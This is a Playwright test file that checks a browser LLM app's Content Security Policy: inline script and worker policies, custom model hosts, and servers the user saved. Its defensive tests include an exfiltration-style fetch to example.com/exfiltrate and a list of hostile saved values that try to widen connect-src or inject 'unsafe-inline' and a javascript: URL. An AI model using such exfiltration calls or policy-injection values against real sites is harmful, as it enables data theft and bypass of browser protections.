import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { ADMITTED_ORIGINS_KEY } from '../app/llm/server/types';
import { AppPage } from './app-page';
import { expect, expectConsoleErrors, test } from './fixtures';
import { SavedRunsPage } from './saved-runs-page';

/** Every CSP violation the page reports, and every console line that mentions one. */
async function watchViolations(page: Page) {
  const consoleLines: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) consoleLines.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { umiCsp: string[] }).umiCsp = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return {
    consoleLines,
    events: () => page.evaluate(() => (window as unknown as { umiCsp: string[] }).umiCsp),
  };
}

test('the built page runs under its policy with zero violations: run, tools, sandbox, history, import, replay, WebLLM worker start', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const { app } = await AppPage.open(page, { tokenDelayMs: 1 });
  const documentPolicy = await page.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
  );
  expect(documentPolicy).toContain("script-src 'self'");
  expect(documentPolicy).not.toContain('unsafe-eval');
  expect(documentPolicy).not.toContain('unsafe-inline');

  await app.runExample('miles-plus-km'); // calculator (mathjs), tool arguments validated
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer');
  await app.runExample('first-ten-primes'); // run_javascript: the sandbox worker and its wasm
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer');
  await expect(app.answer).toContainText('129');
  // A malformed call is caught by argument validation (a schema interpreted, not compiled).
  const bad = await page.evaluate(() => window.umi.tools.call('calculator', { expression: 42 }));
  expect(bad.ok).toBe(false);
  expect(bad.observation).toContain('expression');

  // History: export, import (the trace file is checked by the build-time validator), replay.
  const saved = await SavedRunsPage.open(page);
  const { text } = await saved.exportRun(saved.runs.first());
  await saved.importTrace('run.json', text);
  await expect(saved.importMessage).toContainText('Imported');
  const damaged = JSON.stringify({ ...JSON.parse(text), trace: { ...JSON.parse(text).trace, mode: 'solo' } });
  await saved.importTrace('bad.json', damaged);
  await expect(saved.importMessage).toContainText('mode must be one of');
  await saved.replaySpeed.selectOption('16');
  await saved.replayRun(saved.runs.first());
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer', { timeout: 30_000 });

  // The LLM worker starts WebLLM (its 6 MB chunk, under the worker's own policy) and streams.
  const streamed = await page.evaluate(() => window.umi.bench.stream(500));
  expect(streamed.tokens).toBe(500);
  const started = await page.evaluate(() =>
    window.umi.test.workerEngine.run('CSP check: generation in the real LLM worker'),
  );
  expect(started?.outcome).toBe('give_up');
  // WebLLM's chunk loads and its engine starts under the LLM worker's policy; the load then
  // stops at the first model file, which this server does not have (connect-src 'self' allowed it).
  await app.models.useModelsFrom('this-site');
  await app.models.loadModels();
  const planner = app.models.slot('planner');
  await expect(planner.error).toContainText('Missing file', { timeout: 45_000 });
  await expect(planner.root).toHaveAttribute('data-webllm', '0.2.86');

  expect(await violations.events()).toEqual([]);
  expect(violations.consoleLines).toEqual([]);
});

test.describe('refusals', () => {
  // Chromium reports on the console each refusal this test provokes (the fetch's in two lines).
  test.use(
    expectConsoleErrors(
      /^Executing inline script violates the following Content Security Policy directive 'script-src 'self''/,
      /^Connecting to 'https:\/\/example\.com\/exfiltrate' violates the following Content Security Policy directive/,
      /^Fetch API cannot load https:\/\/example\.com\/exfiltrate\. Refused to connect because it violates the document's Content Security Policy\.$/,
    ),
  );

  // eval is not tried here: code Playwright evaluates runs with DevTools' rights, which CSP exempts.
  // The policy has no 'unsafe-eval' (checked above), which is what refuses it.
  test('the policy is enforced: inline script and fetches to other hosts are refused', async ({ page }) => {
    const violations = await watchViolations(page);
    await AppPage.open(page);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.umiInlineRan = true;';
      document.head.append(script);
      let fetchResult = 'ran';
      try {
        await fetch('https://example.com/exfiltrate');
      } catch (error) {
        fetchResult = (error as Error).name;
      }
      return {
        inlineRan: (window as unknown as { umiInlineRan?: boolean }).umiInlineRan === true,
        fetchResult,
      };
    });
    expect(outcome).toEqual({ inlineRan: false, fetchResult: 'TypeError' });
    await expect
      .poll(violations.events)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^script-src-elem inline/),
          expect.stringMatching(/^connect-src https:\/\/example\.com/),
        ]),
      );
  });
});

test('workers and the service worker carry their own, tighter policies', async ({ request }) => {
  const html = await (await request.get('/')).text();
  const page = (await request.get('/')).headers()['content-security-policy'] ?? '';
  expect(page).toContain("frame-ancestors 'none'");
  const assets = [...html.matchAll(/\/assets\/[\w.-]+\.js/g)].map((m) => m[0]);
  const entry = await (await request.get(assets[0] ?? '')).text();
  const sandboxUrl = /\/assets\/sandbox\.worker-[\w-]+\.js/.exec(entry)?.[0];
  // The WebLLM models controller loads on first use, so the entry does not name its worker;
  // the service worker's precache list names every chunk.
  const precache = await (await request.get('/sw.js')).text();
  const llmPath = /assets\/llm\.worker-[\w-]+\.js/.exec(precache)?.[0];
  const llmUrl = llmPath && `/${llmPath}`;
  expect(sandboxUrl).toBeDefined();
  expect(llmUrl).toBeDefined();
  const sandbox = (await request.get(sandboxUrl ?? '')).headers()['content-security-policy'] ?? '';
  expect(sandbox).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'");
  const llm = (await request.get(llmUrl ?? '')).headers()['content-security-policy'] ?? '';
  expect(llm).toContain("'wasm-unsafe-eval'");
  expect(llm).toContain('https://huggingface.co');
  expect(`${sandbox} ${llm}`).not.toMatch(/(^|\s)'unsafe-(eval|inline)'/);
  const swResponse = await request.get('/sw.js');
  const sw = swResponse.headers()['content-security-policy'] ?? '';
  expect(sw).toContain("default-src 'none'");
  // The tiny models' worker loads on first use, so the entry does not name it; the precache list does.
  const tinyUrl = /assets\/tiny\.worker-[\w-]+\.js/.exec(await swResponse.text())?.[0];
  expect(tinyUrl).toBeDefined();
  const tiny = (await request.get(`/${tinyUrl}`)).headers()['content-security-policy'] ?? '';
  expect(tiny).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' data:");
});

test('a custom model on a host the policy does not allow is refused with what to do', async ({ page }) => {
  const { app } = await AppPage.open(page);
  await expect(app.models.gpuStatus).toBeVisible();
  await app.models.addCustomModel({
    id: 'my-model-q4f32_1-MLC',
    modelUrl: 'https://models.example.org/my-model/',
    modelLibUrl: 'https://models.example.org/libs/my-model-webgpu.wasm',
    dialect: 'chat',
  });
  const planner = app.models.slot('planner');
  await planner.model.selectOption('my-model-q4f32_1-MLC');
  await page.evaluate(() => window.umi.models.load('planner'));
  await expect(planner.error).toContainText('security policy', { timeout: 45_000 });
  await expect(planner.error).toContainText('UMI_MODEL_HOSTS="https://models.example.org"');
});

/**
 * Servers the user saved (issue 14). The page's own policy leaves connect-src at
 * `'self' http: https:`; public/csp-boot.js, the first script in <head>, adds a second policy
 * that narrows it to this site, the model hosts and the origins saved under
 * ADMITTED_ORIGINS_KEY. Both stand-in servers here answer any origin (CORS `*`), so a refusal
 * can only be the page's policy, and it is the boot script's policy that refuses: the page's
 * own would let them through.
 */
const MODEL_POLICY =
  "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com";

/** A stand-in for a user's server: answers every request with "ok" to any origin, and counts them. */
class StandInServer {
  readonly hits: string[] = [];
  private readonly server: Server = createServer((request, response) => {
    this.hits.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
    response.end('ok');
  });

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return this;
  }
  get origin(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }
  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

interface Violation {
  effectiveDirective: string;
  violatedDirective: string;
  blockedURI: string;
  originalPolicy: string;
}

/** Records every securitypolicyviolation of every load of the page, with the policy that refused. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: unknown[] = [];
    (window as unknown as { umiViolations: unknown[] }).umiViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, violatedDirective, blockedURI, originalPolicy } = event;
      seen.push({ effectiveDirective, violatedDirective, blockedURI, originalPolicy });
    });
  });
}

/** fetch() from the page: the body, or the error's name. */
function fetchFromPage(page: Page, url: string): Promise<string> {
  return page.evaluate(async (target) => {
    try {
      return await (await fetch(target)).text();
    } catch (error) {
      return (error as Error).name;
    }
  }, url);
}

/** Fetches `url` from the page and expects the boot script's connect-src to refuse it. */
async function expectRefused(page: Page, url: string, policy: string) {
  expect(await fetchFromPage(page, url)).toBe('TypeError');
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { umiViolations: Violation[] }).umiViolations))
    .toContainEqual({
      effectiveDirective: 'connect-src',
      violatedDirective: 'connect-src',
      blockedURI: url,
      originalPolicy: policy,
    });
}

/**
 * Writes the list the store keeps under ADMITTED_ORIGINS_KEY, as the store would. The running
 * app rewrites it from the servers saved in the store when it starts (watchAdmittedOrigins),
 * so a test writes it just before the reload whose boot script is to read it.
 */
async function saveOrigins(page: Page, value: unknown) {
  await page.evaluate(({ key, value }) => localStorage.setItem(key, value), {
    key: ADMITTED_ORIGINS_KEY,
    value: typeof value === 'string' ? value : JSON.stringify(value),
  });
}

/** The policies the document carries, in order: the page's own <meta>, then the boot script's. */
function documentPolicies(page: Page) {
  return page.evaluate(() =>
    Array.from(document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]'), (meta) => ({
      content: meta.getAttribute('content') ?? '',
      admitted: meta.getAttribute('data-admitted-origins'),
    })),
  );
}

test.describe('servers the user saved', () => {
  let admitted: StandInServer;
  let other: StandInServer;
  test.beforeAll(async () => {
    admitted = await new StandInServer().start();
    other = await new StandInServer().start();
  });
  test.beforeEach(() => {
    admitted.hits.length = 0;
    other.hits.length = 0;
  });
  test.afterAll(async () => {
    await admitted.close();
    await other.close();
  });

  // Chromium reports each refusal on the console, in two lines; the first names the boot
  // script's policy (the page's own, `'self' http: https:`, would have let the fetch through).
  test.use(
    expectConsoleErrors(
      /^Connecting to 'http:\/\/127\.0\.0\.1:\d+\/ping' violates the following Content Security Policy directive: "connect-src 'self' https:\/\/huggingface\.co /,
      /^Fetch API cannot load http:\/\/127\.0\.0\.1:\d+\/ping\. Refused to connect because it violates the document's Content Security Policy\.$/,
      /^Executing inline script violates the following Content Security Policy directive 'script-src 'self''/,
    ),
  );

  test('with no server saved, the boot script narrows connect-src and a server on another port is refused', async ({
    page,
  }) => {
    await recordViolations(page);
    await AppPage.open(page);
    const [own, boot, ...more] = await documentPolicies(page);
    expect(own?.content).toContain("connect-src 'self' http: https:;");
    expect(boot).toEqual({ content: MODEL_POLICY, admitted: '' });
    expect(more).toEqual([]);
    // The boot script's <meta> was added by a script, and Chromium enforces it.
    await expectRefused(page, `${admitted.origin}/ping`, MODEL_POLICY);
    expect(admitted.hits).toEqual([]);
  });

  test('a saved server is admitted after a reload, and no other', async ({ page }) => {
    await recordViolations(page);
    const { app } = await AppPage.open(page);
    await saveOrigins(page, [admitted.origin]);
    // The policy is read when the page loads: saved, not admitted yet.
    await expectRefused(page, `${admitted.origin}/ping`, MODEL_POLICY);
    await page.reload();
    await expect(app.runButton).toBeVisible();
    const policy = `${MODEL_POLICY} ${admitted.origin}`;
    expect((await documentPolicies(page))[1]).toEqual({ content: policy, admitted: admitted.origin });
    expect(await fetchFromPage(page, `${admitted.origin}/v1/models`)).toBe('ok');
    expect(admitted.hits).toEqual(['/v1/models']);
    await expectRefused(page, `${other.origin}/ping`, policy);
    expect(other.hits).toEqual([]);
  });

  test('a hostile or broken saved value widens nothing', async ({ page }) => {
    await recordViolations(page);
    const { app } = await AppPage.open(page);
    const hostile = [
      '*',
      'http:',
      'http://127.0.0.1:*',
      `${other.origin}; connect-src *`,
      `${admitted.origin}/v1`,
      `${admitted.origin} ${other.origin}`,
      "'unsafe-inline'",
      'javascript:alert(1)',
    ];
    for (const value of [hostile, '[', { 0: admitted.origin }]) {
      await saveOrigins(page, value);
      await page.reload();
      await expect(app.runButton).toBeVisible();
      expect((await documentPolicies(page))[1]).toEqual({ content: MODEL_POLICY, admitted: '' });
      await expectRefused(page, `${admitted.origin}/ping`, MODEL_POLICY);
      await expectRefused(page, `${other.origin}/ping`, MODEL_POLICY);
    }
    // script-src is not the boot script's to change: inline script stays refused.
    const inlineRan = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.umiInlineRan = true;';
      document.head.append(script);
      return (window as unknown as { umiInlineRan?: boolean }).umiInlineRan === true;
    });
    expect(inlineRan).toBe(false);
    expect(admitted.hits).toEqual([]);
    expect(other.hits).toEqual([]);
  });

  test('offline, the precached boot script still admits the saved server', async ({ page, context }) => {
    const { app } = await AppPage.open(page);
    await expect(page.getByTestId('offline-ready')).toBeVisible({ timeout: 30_000 });
    await page.reload();
    await expect(app.runButton).toBeVisible();
    expect(await page.evaluate(() => navigator.serviceWorker.controller?.state)).toBe('activated');
    await page.waitForLoadState('networkidle');
    await context.setOffline(true);
    await saveOrigins(page, [admitted.origin]);
    await page.reload();
    await expect(page.getByTestId('offline-now')).toBeVisible();
    expect((await documentPolicies(page))[1]).toEqual({
      content: `${MODEL_POLICY} ${admitted.origin}`,
      admitted: admitted.origin,
    });
    await context.setOffline(false);
  });
});

test('the boot script is the first script, classic and synchronous, from this site and precached', async ({
  request,
}) => {
  const response = await request.get('/');
  const html = await response.text();
  expect(response.headers()['content-security-policy']).toContain("; connect-src 'self' http: https:;");
  const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
  expect(scripts[0]).toBe('<script src="/csp-boot.js">');
  // After the page's own policy, before every other script (the app's are modules, deferred).
  expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(html.indexOf(scripts[0] ?? ''));
  expect(scripts.slice(1).every((tag) => tag.includes('type="module"'))).toBe(true);
  const boot = await request.get('/csp-boot.js');
  expect(boot.headers()['content-type']).toMatch(/javascript/);
  const source = await boot.text();
  expect(source).toContain(`const MODEL_HOSTS = ["https://huggingface.co",`);
  expect(source).not.toContain('umi:csp-boot');
  const precache = await (await request.get('/sw.js')).text();
  expect(precache).toMatch(/url:"csp-boot\.js",revision:"[0-9a-f]+"/);
});
